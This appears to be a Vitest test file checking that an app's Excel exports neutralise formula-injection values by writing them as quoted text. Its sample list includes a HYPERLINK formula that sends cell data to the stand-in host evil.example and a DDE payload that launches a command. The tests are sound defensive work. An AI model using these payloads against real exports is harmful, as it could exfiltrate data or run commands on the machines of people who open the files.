import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative, resolve } from 'node:path';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { unlockAdmin } from '../../test/fixtures';
import { createTestApp } from '../../test/helpers';
import { user } from '../db/schema';
import { safeCell, unguarded } from './sheet-cells';

/**
 * Issue #38 item 5: a value a spreadsheet could take for a formula (`= + - @`, tab, CR first) is
 * written as guarded text by every export; numbers stay numbers.
 */
const EVIL = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

let t: Awaited<ReturnType<typeof createTestApp>>;
let tok: string;
beforeAll(async () => {
  t = await createTestApp();
  await unlockAdmin(t.db);
  tok = await t.login();
});
afterAll(() => t.close());

/** Every cell of the first sheet: no formula anywhere, the texts as written. */
async function cellsOf(data: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(data as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  wb.worksheets[0].eachRow((row) => {
    row.eachCell((c) => {
      cells.push(c);
    });
  });
  return cells;
}

function expectGuarded(cells: ExcelJS.Cell[]) {
  for (const c of cells) {
    expect(c.type, `${c.address} ${String(c.value)}`).not.toBe(ExcelJS.ValueType.Formula);
    if (typeof c.value === 'string') expect(c.value).not.toMatch(/^[=+\-@\t\r]/);
  }
  // the layer trims what it stores: a leading tab or CR is gone, the formula behind it is guarded
  const texts = cells.map((c) => c.value);
  for (const v of EVIL) expect(texts).toContain(`'${v.trim()}`);
}

describe('formula-leading values in exports', () => {
  it('the generic layer export writes them as quoted text (params named like formulas)', async () => {
    for (const [i, v] of EVIL.entries()) {
      const res = await t.call('POST', '/api/calf-system/param/submit', tok, {
        paramName: v,
        paramKey: `xl.evil.${i}`,
        paramValue: v,
      });
      expect(res.status, res.body.msg).toBe(200);
    }
    const res = await t.call('POST', '/api/calf-system/param/exportExcel', tok, {
      paramKey_likeright: 'xl.evil.',
    });
    expect(res.status).toBe(200);
    expectGuarded(await cellsOf(res.raw.rawPayload));
  });

  it('the user export does the same (a user named like a formula)', async () => {
    const [admin] = await t.db.select({ id: user.id }).from(user).where(eq(user.account, 'admin'));
    await t.db
      .update(user)
      .set({ realName: EVIL[0], name: EVIL[2], email: EVIL[3] })
      .where(eq(user.id, admin.id));
    await t.db.update(user).set({ phone: EVIL[1], code: EVIL[4] }).where(eq(user.id, admin.id));
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/calf-user/export-user',
      query: { account: 'admin' },
      headers: { 'calf-auth': `bearer ${tok}` },
    });
    expect(res.statusCode).toBe(200);
    const cells = await cellsOf(res.rawPayload);
    for (const c of cells) expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
    const texts = cells.map((c) => c.value);
    for (const v of EVIL.slice(0, 5)) expect(texts).toContain(`'${v}`);
  });

  it('guards only text: numbers (negative too) and dates stay as they are; the quote is dropped on import', () => {
    expect(safeCell(-5)).toBe(-5);
    expect(safeCell(0)).toBe(0);
    const d = new Date();
    expect(safeCell(d)).toBe(d);
    expect(safeCell('a=b')).toBe('a=b');
    expect(safeCell('')).toBe('');
    for (const v of EVIL) {
      expect(safeCell(v)).toBe(`'${v}`);
      expect(unguarded(String(safeCell(v)))).toBe(v);
    }
    expect(unguarded("'plain")).toBe("'plain");
  });

  it('no source writes spreadsheet rows except through the shared cell writer', () => {
    const root = resolve(import.meta.dirname, '..');
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const p = join(dir, name);
        if (statSync(p).isDirectory()) walk(p);
        else if (/\.ts$/.test(name) && !/\.test\.ts$/.test(name) && !p.endsWith('sheet-cells.ts')) {
          const src = readFileSync(p, 'utf8');
          if (/\.addRow\(|\.addRows\(|\.getCell\([^)]*\)\.value\s*=|\.insertRow\(/.test(src))
            offenders.push(relative(root, p));
        }
      }
    };
    walk(root);
    expect(offenders).toEqual([]);
  });
});
